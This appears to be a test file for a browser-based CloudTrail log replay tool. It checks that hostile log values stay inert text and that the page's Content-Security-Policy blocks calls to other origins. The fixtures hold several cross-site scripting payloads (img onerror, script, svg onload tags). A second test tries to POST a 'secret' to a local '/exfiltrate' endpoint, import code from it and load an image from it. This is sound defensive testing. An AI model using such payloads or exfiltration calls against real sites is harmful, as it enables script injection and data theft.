// Safety: a log value that is HTML shows as text and never runs; the page and its
// worker cannot reach another origin (the Content-Security-Policy meta tag, with a
// server that sends no CSP header of its own).
import test from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { foreignRequests, openPage, replayEnded, screenshot } from './harness.mjs';

const HOSTILE_AGENT = '<img src=x onerror="window.__pwned=1;document.title=\'pwned\'">';
const HOSTILE_USER = 'eve<script>window.__pwned=2</script>';
const HOSTILE_TABLE = '<b onmouseover=alert(1)>Orders</b>';

function hostileScan(user, minute) {
  return JSON.stringify({
    eventVersion: '1.08',
    eventTime: `2024-03-12T06:${String(minute).padStart(2, '0')}:00Z`,
    eventSource: 'dynamodb.amazonaws.com',
    eventName: 'Scan',
    awsRegion: 'us-east-1',
    sourceIPAddress: '"><svg onload=alert(1)>',
    userAgent: HOSTILE_AGENT,
    userIdentity: { type: 'IAMUser', arn: `arn:aws:iam::123456789012:user/${user}`, userName: user, accountId: '123456789012' },
    requestParameters: { tableName: HOSTILE_TABLE },
    eventID: `hostile-${minute}`,
    recipientAccountId: '123456789012',
  });
}

test('hostile field values show as text and never run', async () => {
  const session = await openPage();
  const { page } = session;
  try {
    const ndjson = `${hostileScan(HOSTILE_USER, 1)}\n${hostileScan('mallory', 2)}\n`;
    await page.setInputFiles('#file-input', { name: '<img src=x onerror=alert(3)>.ndjson', mimeType: 'application/x-ndjson', buffer: Buffer.from(ndjson) });
    assert.equal(await replayEnded(page), 'complete');
    await page.hover('#alerts-table .vt-row[data-key]');
    await screenshot(page, '06-hostile-values');

    const cells = await page.$$eval('#alerts-table .vt-body .vt-row[data-key]', (rows) =>
      rows.map((row) => [...row.querySelectorAll('.vt-cell')].map((cell) => cell.textContent)));
    assert.equal(cells.length, 2);
    assert.equal(cells[0][1], `arn:aws:iam::123456789012:user/${HOSTILE_USER}`);
    assert.equal(cells[0][3], '"><svg onload=alert(1)>');
    assert.equal(cells[0][4], HOSTILE_TABLE);
    assert.equal(cells[0][5], HOSTILE_AGENT);
    const principal = await page.textContent('#principals-table .vt-row[data-key] .vt-cell');
    assert.match(principal, /<script>/);
    const fileName = await page.textContent('#file-names li');
    assert.equal(fileName, '<img src=x onerror=alert(3)>.ndjson');

    const injected = await page.evaluate(() => ({
      elements: document.querySelectorAll('main img, main script, main svg, main b, #file-names img').length,
      pwned: window.__pwned ?? null,
      title: document.title,
    }));
    assert.deepEqual(injected, { elements: 0, pwned: null, title: 'DynamoDB Scan by Unusual User: CloudTrail replay' });

    // The alert details, the JSON tree, the source event and the filter chips: text too.
    await page.click('#alerts-table .vt-row[data-key]');
    await page.waitForSelector('#alert-details[data-state="ready"]');
    await page.waitForSelector('#details-source[data-found="yes"]');
    assert.ok((await page.textContent('#details-sentence')).includes(`user/${HOSTILE_USER} scanned the table ${HOSTILE_TABLE}`));
    assert.ok((await page.textContent('#alert-details .jt')).includes(JSON.stringify(HOSTILE_AGENT)));
    assert.equal(JSON.parse(await page.textContent('#details-source pre')).userAgent, HOSTILE_AGENT);
    await page.click('#alert-details button[data-follow="source"]');
    await page.click('#alert-details button[data-follow="principal"]');
    assert.equal(await page.textContent('#filters .chip[data-filter="source"] > span'), 'Source address: "><svg onload=alert(1)>');
    await page.hover('#alert-details .jt-leaf');
    await screenshot(page, '06b-hostile-details');
    const injectedInDetails = await page.evaluate(() => ({
      elements: document.querySelectorAll('#alert-details img, #alert-details script, #alert-details svg, #alert-details b, '
        + '#filters img, #filters script, #filters svg, #filters b').length,
      pwned: window.__pwned ?? null,
      title: document.title,
    }));
    assert.deepEqual(injectedInDetails, { elements: 0, pwned: null, title: 'DynamoDB Scan by Unusual User: CloudTrail replay' });
    assert.deepEqual(foreignRequests(session.requests, session.url), []);
  } finally {
    await session.close();
  }
});

test('the page and its worker cannot connect to another origin', async () => {
  let hits = 0;
  const other = createServer((req, res) => {
    hits += 1;
    res.setHeader('access-control-allow-origin', '*');
    res.end('reached');
  });
  await new Promise((resolve) => other.listen(0, '127.0.0.1', resolve));
  // Another origin on the same machine: a different host name and port.
  const target = `http://localhost:${other.address().port}/exfiltrate`;
  const session = await openPage();
  const { page } = session;
  try {
    const attempt = (url) => fetch(url, { method: 'POST', body: 'secret' }).then(() => 'sent', (e) => `refused: ${e.message}`);
    assert.match(await page.evaluate(attempt, target), /^refused/);
    const [worker] = page.workers();
    assert.ok(worker, 'the replay worker runs');
    assert.match(await worker.evaluate(attempt, target), /^refused/);
    assert.match(await worker.evaluate((url) => import(url).then(() => 'imported', () => 'refused'), target), /^refused/);
    assert.match(await page.evaluate((url) => new Promise((resolve) => {
      const image = new Image();
      image.onload = () => resolve('loaded');
      image.onerror = () => resolve('refused');
      image.src = url;
    }), target), /^refused/);
    assert.equal(hits, 0, 'nothing reached the other origin');
    const policy = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
    assert.match(policy, /connect-src 'self'/);
    assert.match(policy, /default-src 'none'/);
    assert.ok(await page.isVisible('#privacy-note'));
    assert.match(await page.textContent('#privacy-note'), /Nothing leaves your browser/);
  } finally {
    await session.close();
    other.close();
  }
});
